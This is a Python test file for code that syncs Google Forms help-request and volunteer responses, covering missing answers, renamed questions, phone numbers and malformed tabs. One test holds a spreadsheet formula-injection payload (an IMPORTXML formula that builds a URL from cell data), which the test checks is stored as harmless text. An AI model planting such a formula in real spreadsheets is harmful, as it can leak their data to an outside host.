"""What was answered to what, whatever became of the titles and the words."""

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from community.forms.google.google_tabs import FORMS_TAB, WORDS_HEADER, WORDS_TAB
from tests.forms.answers import VOLUNTEER
from tests.sheets_sync.answers.google_writes import ADA, FIRST, GRACE, SECOND, header, put, tab
from tests.sheets_sync.answers.machines import FORMS, Machine, looked, names

ASK = FORMS["help_request"]
TAB = "Form responses 1"


def test_nobody_is_turned_away_for_what_is_missing_and_only_an_empty_row_is_nothing(machine: Machine) -> None:
    machine.sync({TAB: [header(ASK), [FIRST], [], [SECOND, "", "please ring"], ["", "", ""]]})
    [only] = machine.rows()
    assert set(only["flags"].split("; ")) == {"no_way_to_reach", "answer_missing", "postcode_missing"}
    assert only["details"] == "please ring"


def test_an_edited_question_keeps_its_answers_as_words_until_set_up_has_written_it_down(machine: Machine) -> None:
    grid = tab(ASK, (FIRST, ADA))
    grid[0][grid[0].index("Your telephone number")] = "Phone, if you have one"
    machine.sync({TAB: grid})
    [before] = machine.rows()
    assert before["telephone"] is None
    assert before["extra.other_answers"] == "Phone, if you have one: 0117 496 0001"
    assert "outside_words" in before["flags"]
    words = [list(WORDS_HEADER), ["help_request", "telephone", "title", "Phone, if you have one", ""]]
    machine.sync({TAB: grid, WORDS_TAB: words})
    assert machine.rows()[0]["telephone"] == "0117 496 0001"
    assert machine.sync({TAB: grid, WORDS_TAB: words}).changes == ()


def test_an_edited_question_changes_nothing_in_the_answers_that_are_here(machine: Machine) -> None:
    grid = tab(ASK, (FIRST, ADA), (SECOND, GRACE))
    machine.sync({TAB: grid})
    grid[0][grid[0].index("Your telephone number")] = "Phone, if you have one"
    assert machine.sync({TAB: grid}).changes == ()


def test_a_question_with_answers_to_choose_is_known_by_them(machine: Machine) -> None:
    grid = tab(ASK, (FIRST, ADA))
    grid[0][grid[0].index("What would help?")] = "Tell us what you need"
    machine.sync({TAB: grid})
    assert machine.rows()[0]["tasks"] == "food_parcel; phone_call"


def test_words_that_were_once_an_answer_stay_one(machine: Machine) -> None:
    words = [list(WORDS_HEADER), ["help_request", "urgency", "answer", "Within seven days", "this_week"]]
    machine.sync({TAB: put(tab(ASK, (FIRST, ADA)), "How soon?", "within Seven days"), WORDS_TAB: words})
    assert machine.rows()[0]["urgency"] == "this_week"
    assert machine.rows()[0]["flags"] is None


def test_words_that_are_no_answer_are_kept_and_flagged(machine: Machine) -> None:
    grid = put(tab(ASK, (FIRST, ADA)), "How soon?", "Before Christmas")
    put(grid, "What would help?", "My dog walked, a hedge cut, A lift to the doctor, hospital or chemist")
    put(grid, "When is a good time? [Monday]", "Morning, Noon")
    machine.sync({TAB: grid})
    [only] = machine.rows()
    assert only["urgency"] == "Before Christmas"
    assert only["tasks"] == "a hedge cut; dog_walk; lift"
    assert only["slots"] == "Monday Noon; mon_morning; tue_afternoon"
    assert only["flags"] == "outside_words"


def test_what_a_column_can_not_hold_is_kept_as_words(machine: Machine) -> None:
    form = FORMS["volunteer"]
    grid = put(tab(form, (FIRST, VOLUNTEER)), "How many people could you help in one week?", "as many as it takes")
    put(grid, "You may keep this", "Only the email")
    machine.sync({TAB: grid})
    [only] = machine.rows("volunteers")
    assert (only["how_many"], only["consent"]) == (None, None)
    assert only["extra.heard_from"] == "a poster"
    assert only["extra.other_answers"].splitlines() == [
        "You may keep this: Only the email",
        "People in a week: as many as it takes",
    ]
    assert set(only["flags"].split("; ")) == {"answer_missing", "outside_words"}


def test_answers_to_questions_that_were_not_to_be_asked_are_kept_as_words(machine: Machine) -> None:
    grid = put(tab(ASK, (FIRST, ADA)), "Who are you to them?", "a nurse")
    machine.sync({TAB: grid})
    [only] = machine.rows()
    assert only["referrer_who"] is None
    assert only["extra.other_answers"] == "Who you are to them: a nurse"


def test_a_column_that_somebody_added_comes_along_once_and_is_theirs_from_then_on(machine: Machine) -> None:
    grid = tab(ASK, (FIRST, ADA))
    grid[0].append("Do you have a pet?")
    grid[1] += [""] * (len(grid[0]) - 1 - len(grid[1])) + ["A cat"]
    machine.sync({TAB: grid})
    assert machine.rows()[0]["extra.other_answers"] == "Do you have a pet?: A cat"
    grid[0].append("Rung by")
    grid[1].append("Jo")
    assert machine.sync({TAB: grid}).changes == ()


def test_the_same_title_twice_is_two_questions_in_the_order_in_which_we_ask_them(machine: Machine) -> None:
    grid = [
        [
            "Timestamp",
            "What would help?",
            "Who is it for?",
            "Your name",
            "Your telephone number",
            "Your name",
            "Your telephone number",
        ],
        [FIRST, "My dog walked", "Somebody else", "Grace", "0117 496 0002", "Ada", "0117 496 0001"],
    ]
    machine.sync({TAB: grid}, marks={TAB: "help_request"})
    [only] = machine.rows()
    assert (only["referrer_name"], only["name"]) == ("Grace", "Ada")
    assert (only["referrer_telephone"], only["telephone"]) == ("0117 496 0002", "0117 496 0001")


def test_a_column_that_was_copied_says_nothing_twice(machine: Machine) -> None:
    grid = tab(ASK, (FIRST, ADA))
    place = grid[0].index("Your email address")
    grid = [[*line, *([""] * (len(grid[0]) - len(line))), (line + [""] * 99)[place]] for line in grid]
    machine.sync({TAB: grid})
    assert machine.rows()[0]["email"] == "ada@example.org"
    assert machine.rows()[0]["extra"] is None


@pytest.mark.parametrize(
    ("cell", "kept"), [(1174960001, "01174960001"), (447700900123, "+447700900123"), ("07700", "07700")]
)
def test_a_number_gets_back_the_nought_that_the_spreadsheet_took(machine: Machine, cell: object, kept: str) -> None:
    machine.sync({TAB: put(tab(ASK, (FIRST, ADA)), "Your telephone number", cell)})
    assert machine.rows()[0]["telephone"] == kept


def test_a_title_line_above_the_header_is_stepped_over(machine: Machine) -> None:
    grid = [["Requests of this winter"], [], *tab(ASK, (FIRST, ADA))]
    machine.sync({TAB: grid})
    assert names(machine) == ["Ada Invented"]


def test_formulas_and_marks_are_words(machine: Machine) -> None:
    hostile = '=IMPORTXML(CONCAT("//x",A1))'
    machine.sync({TAB: tab(ASK, (FIRST, ADA | {"details": [hostile], "name": ["<b>Ada</b>"]}))})
    assert machine.rows()[0]["details"] == hostile
    assert names(machine) == ["<b>Ada</b>"]


@pytest.mark.parametrize(
    "spoilt", [[], [[]], [["x"]], [[None, 3], [True]], [list(WORDS_HEADER), ["help_request"], [1, 2, 3]]]
)
def test_a_spoilt_list_of_words_tells_less_and_nothing_fails(machine: Machine, spoilt: list[list[Any]]) -> None:
    machine.sync({TAB: tab(ASK, (FIRST, ADA)), WORDS_TAB: spoilt, FORMS_TAB: spoilt})
    assert names(machine) == ["Ada Invented"]


@given(said=st.lists(st.text("abcqyz", max_size=8), min_size=1, max_size=40))
def test_every_word_of_an_answer_is_somewhere_in_its_row(said: list[str]) -> None:
    grid = [[*header(ASK), "Anything else?", "And now?"], [FIRST, *said]]
    rows = looked({TAB: grid}).rows if any(said) else []
    kept = " ".join(str(value) for each in rows for value in each.values.values())
    assert [word for word in said if word not in kept] == []


CELLS = st.one_of(
    st.none(), st.booleans(), st.floats(allow_nan=False, allow_infinity=False), st.integers(), st.text(max_size=20)
)


@given(lines=st.lists(st.lists(CELLS, max_size=40), max_size=4), head=st.lists(CELLS, max_size=4))
def test_whatever_stands_in_a_tab_nothing_fails_and_no_row_is_two(lines: list[list[Any]], head: list[Any]) -> None:
    grid = [[*header(ASK), *head], *lines]
    found = looked({TAB: grid}, marks={TAB: "help_request"})
    assert len({each.id for each in found.rows} | {each.id for each in found.aside}) == len(found.rows) + len(
        found.aside
    )
